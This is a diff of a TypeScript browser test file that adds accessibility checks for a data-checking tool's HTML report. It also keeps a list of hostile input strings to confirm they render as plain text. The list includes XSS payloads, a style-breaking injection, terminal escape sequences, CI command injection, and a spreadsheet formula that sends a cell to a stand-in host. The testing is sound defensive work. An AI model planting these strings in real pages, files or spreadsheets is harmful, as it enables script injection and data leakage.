@@ -1,3 +1,6 @@
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import axe from 'axe-core'
 import type { Browser, Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { renderHtml } from '../../reports/html/html.ts'
@@ -5,8 +8,10 @@ import { display } from '../../reports/text/display.ts'
 import type { Result } from '../../src/core/result.ts'
 import { launchBrowser, noBrowser, openPage, type PageOptions } from '../support/browser.ts'
 import { aCategoriesOutcome, aDriftOutcome } from '../support/drift.ts'
+import { aHostileResult, hostileTexts } from '../support/hostile.ts'
 import { anOutcome } from '../support/outcome.ts'
 import { aResult } from '../support/result.ts'
+import { csv, workspace } from '../support/workspace.ts'
 
 const title = noBrowser ? `the page in a browser (skipped: ${noBrowser})` : 'the page in a browser'
 
@@ -30,9 +35,9 @@ describe.skipIf(noBrowser !== undefined)(title, () => {
   )
 
   test('shows hostile cells and names as text', async () => {
-    const { page, problems } = await open(aHostileResult())
+    const { page, problems } = await open(everyHostileResult())
     const text = await page.evaluate<string>('document.body.textContent')
-    for (const hostile of hostileTexts) expect(text).toContain(display(hostile))
+    for (const hostile of pageTexts) expect(text).toContain(display(hostile))
     expect(await page.locator('img, iframe, object, embed, form, base').count()).toBe(0)
     expect(await page.locator('script').count()).toBe(1)
     expect(await page.evaluate(attributesThatRunOrStyle)).toEqual([])
@@ -42,7 +47,7 @@ describe.skipIf(noBrowser !== undefined)(title, () => {
   })
 
   test('every link leads to an element of the page, whatever the id of the check', async () => {
-    const { page } = await open(aHostileResult())
+    const { page } = await open(everyHostileResult())
     expect(await page.evaluate(linksThatLeadNowhere)).toEqual([])
     expect(await page.evaluate(idsThatRepeat)).toEqual([])
   })
@@ -127,7 +132,7 @@ describe.skipIf(noBrowser !== undefined)(title, () => {
 
   test.each([
     ['a result', () => aResult()],
-    ['hostile names', () => aHostileResult()],
+    ['hostile names', () => everyHostileResult()],
     ['300 columns', () => aWideResult()],
   ])('%s needs no sideways scrolling on a phone', async (_, result) => {
     const { page } = await open(result(), { width: 390 })
@@ -175,6 +180,33 @@ describe.skipIf(noBrowser !== undefined)(title, () => {
     expect(await page.locator('details:not([open])').count()).toBeGreaterThan(0)
   })
 
+  const pages: readonly (readonly [string, () => Result])[] = [
+    ['findings of every kind', () => aResult()],
+    ['nothing to find', () => aResult({ outcomes: [anOutcome()] })],
+    ['nothing checked', () => aResult({ outcomes: [] })],
+  ]
+  const themes = ['light', 'dark'] as const
+
+  test.each(pages.flatMap(([name, result]) => themes.map(theme => [name, theme, result] as const)))(
+    'axe finds nothing to criticise: %s, %s theme',
+    async (_, theme, result) => {
+      const { page } = await open(result(), { theme })
+      expect(await violationsOf(page)).toEqual([])
+    },
+  )
+
+  test.each(themes)('axe finds nothing to criticise: the report of a failed run, %s theme', async theme => {
+    const { page } = await openPage(browser, await failedReport(), { theme })
+    expect(await page.locator('.card').count()).toBeGreaterThan(4)
+    expect(await page.locator('.derived').textContent()).toContain('derived from the reference')
+    expect(await violationsOf(page)).toEqual([])
+  })
+
+  test('axe finds nothing to criticise on a phone', async () => {
+    const { page } = await open(aResult(), { width: 390 })
+    expect(await violationsOf(page)).toEqual([])
+  })
+
   test('headings, landmarks and charts have an order and a name', async () => {
     const { page } = await open(aResult())
     const levels = await page.evaluate<number[]>(
@@ -197,6 +229,21 @@ function focusedCard(page: Page): Promise<string> {
   return page.evaluate<string>('document.activeElement.closest(".card").id')
 }
 
+/** Rules that axe says are broken, each with the first elements that break it. Everything is unfolded first. */
+async function violationsOf(page: Page): Promise<readonly string[]> {
+  await page.evaluate(`for (const each of document.querySelectorAll('details')) each.open = true`)
+  await page.evaluate(axe.source)
+  const { followed, broken } = await page.evaluate<{ followed: number; broken: string[] }>(axeRun)
+  expect(followed).toBeGreaterThan(10)
+  return broken
+}
+
+const axeRun = `axe.run().then(({ passes, violations }) => ({
+  followed: passes.length,
+  broken: violations.map(({ id, help, nodes }) =>
+    id + ': ' + help + '\\n' + nodes.slice(0, 3).map(node => node.html.slice(0, 200)).join('\\n')),
+}))`
+
 const attributesThatRunOrStyle = `[...document.querySelectorAll('*')].flatMap(element =>
   [...element.attributes].filter(({ name }) => name === 'style' || name.startsWith('on')).map(({ name }) => name))`
 
@@ -211,62 +258,59 @@ const linksThatLeadNowhere = `[...document.querySelectorAll('a[href^="#"]')]
 const idsThatRepeat = `[...document.querySelectorAll('[id]')].map(element => element.id)
   .filter((id, index, all) => all.indexOf(id) !== index)`
 
-const hostileTexts = [
-  '<img src=x onerror=alert(1)>',
-  '</script><script>alert(1)</script>',
+/** What acts in a page only, beside the texts that every report is tested with. */
+const pageTexts = [
+  ...hostileTexts,
   '</style><style>*{display:none}</style>',
-  '"><svg onload=alert(1)>',
-  `' onmouseover='alert(1)`,
-  '{{{js}}} {{constructor}}',
-  '&lt;b&gt; &amp;amp;',
-  '\u001b[2J\u001b]8;;https://x.example\u0007link',
-  '::error file=a::b\n::set-output name=c::d',
-  '=HYPERLINK("http://x.example/?q="&A1)',
-  'user\u202etxt.exe\u2066',
-  'nul\u0000byte \ud83d half',
   'javascript:alert(1)',
   'main',
-  'glyph:tick',
-  '',
-  '   ',
+  'glyph:passed',
   'ünïcode "quoted" it’s.a.column',
   'w'.repeat(5000),
 ]
 
-/** Every hostile text as column, id, cell, label and sentence. */
-function aHostileResult(): Result {
-  const outcomes = hostileTexts.flatMap(text => [
-    anOutcome({ id: text, columns: [text], found: text, expected: text, derivation: text, suite: text }),
-    anOutcome({
-      id: `${text}.in-set`,
-      columns: [text],
-      status: 'failed',
-      found: text,
-      expected: text,
-      hint: text,
-      note: text,
-      origin: { file: text, line: 1 },
-      unexpected: {
-        count: 1,
-        of: 2,
-        distinct: 1,
-        positions: [7],
-        positionKind: 'line',
-        values: [{ value: text, count: 1, positions: [7], closest: text }],
-      },
-    }),
+/** Every hostile text as column, id, cell, label and sentence, in one page. */
+function everyHostileResult(): Result {
+  const results = pageTexts.map(aHostileResult)
+  const [first = aResult()] = results
+  const ofColumns = pageTexts.flatMap(text => [
     aDriftOutcome({ column: text, shift: 0.4 }),
     aCategoriesOutcome(text, [{ label: text, reference: 0, sample: 3 }]),
   ])
-  const all = hostileTexts.join(' ')
-  const plain = aResult()
   return aResult({
-    outcomes,
-    columns: hostileTexts.map(name => ({ name, type: 'string' })),
-    suites: hostileTexts.map(name => ({ name, file: name, checks: 1, derived: false })),
-    sample: plain.sample && { ...plain.sample, label: all, remarks: hostileTexts },
-    run: { ...plain.run, command: ['mlcheck', ...hostileTexts], commit: all, engine: all, id: all },
+    ...first,
+    outcomes: [...results.flatMap(({ outcomes }) => outcomes), ...ofColumns],
+    columns: results.flatMap(({ columns }) => columns),
+    suites: results.flatMap(({ suites }) =>
+      suites.map(suite => ({ ...suite, derived: true, remarks: [suite.name] })),
+    ),
+    sample: first.sample && { ...first.sample, label: pageTexts.join(' '), remarks: pageTexts },
   })
+}
+
+/** The page that a run writes of data with a gap in two columns, a new label, drift and another type. */
+async function failedReport(): Promise<string> {
+  const rows = Array.from({ length: 400 }, (_, row) => row)
+  const table = (isNew: boolean) =>
+    csv({
+      price: rows.map(row => ((row * 37) % 101) + (isNew ? 25.5 : 0.5)),
+      fee: rows.map(row => (row % (isNew ? 2 : 20) === 0 ? 2.5 : 0)),
+      room: rows.map(row => (isNew && row % 9 === 0 ? 'Private ' : row % 3 === 0 ? 'shared' : 'private')),
+      beds: rows.map(row => (isNew && row % 5 === 0 ? null : row % 4)),
+      baths: rows.map(row => (isNew && row % 5 === 0 ? null : row % 3)),
+      floor: rows.map(row => (isNew && row === 7 ? 'ground' : row % 6)),
+    })
+  const given = workspace({ 'old.csv': table(false), 'new.csv': table(true) })
+  const { code } = await given.run(
+    '--reference',
+    'old.csv',
+    '--sample',
+    'new.csv',
+    '--reporter',
+    'html=report.html',
+  )
+  expect(code).toBe(1)
+  return readFileSync(join(given.folder, 'report.html'), 'utf8')
 }
 
 function aWideResult(): Result {
